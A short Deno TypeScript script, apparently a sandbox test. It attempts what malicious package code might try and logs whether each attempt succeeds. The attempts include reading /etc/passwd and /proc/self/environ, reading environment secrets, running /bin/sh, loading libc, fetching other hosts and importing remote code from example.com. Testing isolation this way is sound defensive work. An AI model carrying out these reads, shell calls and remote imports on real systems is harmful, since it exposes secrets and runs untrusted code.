/** What code that got into a package would try. One line tells what came of each try. */
async function attempt(work: () => unknown): Promise<string> {
  try {
    return `got ${String(await work())}`;
  } catch (error) {
    return error instanceof Error ? error.name : "refused";
  }
}

const trap = Deno.env.get("TELEGRAM_API_ROOT")?.replace(/\d+$/, (port) => String(Number(port) + 1));
const found = {
  passwords: await attempt(() => Deno.readTextFile("/etc/passwd")),
  environment: await attempt(() => Deno.readTextFile("/proc/self/environ")),
  variable: await attempt(() => Deno.env.get("SECRET_OF_SOMEBODY_ELSE")),
  variables: await attempt(() => Object.keys(Deno.env.toObject()).toSorted().join()),
  anotherHost: await attempt(() => fetch("http://192.0.2.1/")),
  anotherPort: await attempt(() => fetch(trap ?? "")),
  file: await attempt(() => Deno.writeTextFile("planted.txt", "")),
  program: await attempt(() => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).output()),
  library: await attempt(() => Deno.dlopen("libc.so.6", {})),
  code: await import(`https://example.com/${"more.ts"}`).catch((error) => error.message),
  machine: await attempt(() => Deno.hostname()),
};
console.log(`planted ${JSON.stringify(found)}`);
